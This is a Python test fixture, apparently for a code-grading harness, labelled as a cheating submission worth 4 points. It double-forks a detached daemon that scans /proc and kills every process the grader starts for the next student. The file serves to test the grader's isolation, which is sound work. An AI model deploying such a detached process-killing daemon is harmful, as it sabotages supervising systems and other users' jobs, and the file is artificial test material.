# about: leaves a daemon that kills the processes which the grader starts for the next student.
# expects: cheat
# points: 4
# use: honest
import os
import sys

PROGRAM = """
import glob, os, signal, time

def parent(pid):
    try:
        return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    except (OSError, IndexError):
        return 0

def of_the_grader(pid):
    while pid > 1 and pid != @PID@:
        pid = parent(pid)
    return pid == @PID@

until = time.time() + 10
while time.time() < until:
    for path in glob.glob("/proc/[0-9]*"):
        pid = int(path[6:])
        if pid not in (1, os.getpid(), @PID@) and of_the_grader(pid):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.05)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            os.execv(sys.executable, [sys.executable, "-I", "-c", PROGRAM, "corpus-daemon-@RUN@"])
        finally:
            os._exit(0)
    os._exit(0)
os.wait()
